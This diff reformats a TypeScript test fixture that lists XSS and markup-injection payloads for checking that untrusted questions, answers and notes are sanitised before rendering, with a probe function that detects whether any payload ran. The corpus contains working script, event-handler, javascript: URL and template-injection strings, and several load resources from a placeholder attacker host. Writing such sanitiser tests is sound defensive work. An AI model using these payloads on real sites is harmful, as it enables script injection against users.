@@ -1,6 +1,9 @@
 /// <reference lib="dom" />
 const outside = 'http://attacker.example';
-/** What a stranger may have put into a question, an answer, a skill, a reason or a note. `__hit` is looked for afterwards. */
+/**
+ * What a stranger may have put into a question, an answer, a skill, a reason or a note. `__hit` is looked for
+ * afterwards.
+ */
 export const corpus = [
 	'<script>window.__hit = 1</script>',
 	`<script src="${outside}/x.js"></script>`,
@@ -10,12 +13,14 @@ export const corpus = [
 	`<svg><image href="${outside}/x.svg"/><use href="data:image/svg+xml,<svg onload=alert(1)>"/></svg>`,
 	`<iframe src="${outside}"></iframe><iframe srcdoc="<script>parent.__hit=1</script>"></iframe>`,
 	`<style>* { background: url(${outside}/css) } @import url(${outside}/more.css);</style>`,
-	`<link rel=stylesheet href=${outside}/x.css><meta http-equiv=refresh content="0;url=${outside}"><base href="${outside}">`,
+	`<link rel=stylesheet href=${outside}/x.css><meta http-equiv=refresh content="0;url=${outside}"><base ` +
+		`href="${outside}">`,
 	'<a href="javascript:window.__hit=1">click</a><form action="javascript:window.__hit=1"><button>go</button></form>',
 	'<details open ontoggle="window.__hit=1"><video><source onerror="window.__hit=1"></video>',
 	'</pre></div></main><body onload="window.__hit=1">',
 	`![picture](${outside}/x.png) ![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
-	'[click](javascript:window.__hit=1) [run](command:workbench.action.terminal.new) [data](data:text/html,<script>window.__hit=1</script>)',
+	'[click](javascript:window.__hit=1) [run](command:workbench.action.terminal.new) ' +
+		'[data](data:text/html,<script>window.__hit=1</script>)',
 	`[ref][1]\n\n[1]: ${outside}/ref`,
 	`<${outside}/auto> ${outside}/bare`,
 	'$\\href{javascript:window.__hit=1}{x}$ $\\url{javascript:window.__hit=1}$ \\(\\href{http://attacker.example}{y}\\)',
@@ -35,7 +40,9 @@ export const corpus = [
 	'{{constructor.constructor("window.__hit=1")()}} ${window.__hit=1} javascript:window.__hit=1',
 ];
 
-/** Texts no one could read apart afterwards are left out where they would make a chip or a title of 40,000 characters. */
+/**
+ * Texts no one could read apart afterwards are left out where they would make a chip or a title of 40,000 characters.
+ */
 export const short = corpus.filter((text) => text.length < 400);
 
 export interface Probe {
@@ -52,9 +59,12 @@ export function probe(): Probe {
 	return {
 		hit: '__hit' in window,
 		scripts: document.scripts.length,
-		elements: document.querySelectorAll('img, iframe, object, embed, form, base, video, audio, style, image, use, meta[http-equiv=refresh]').length,
+		elements: document.querySelectorAll(
+			'img, iframe, object, embed, form, base, video, audio, style, image, use, meta[http-equiv=refresh]',
+		).length,
 		handlers: all.filter((element) => element.getAttributeNames().some((name) => name.startsWith('on'))).length,
-		links: document.querySelectorAll('a[href], [href^="javascript"], [src^="javascript"], .attacker, #root #root').length,
+		links: document.querySelectorAll('a[href], [href^="javascript"], [src^="javascript"], .attacker, #root #root')
+			.length,
 	};
 }
 
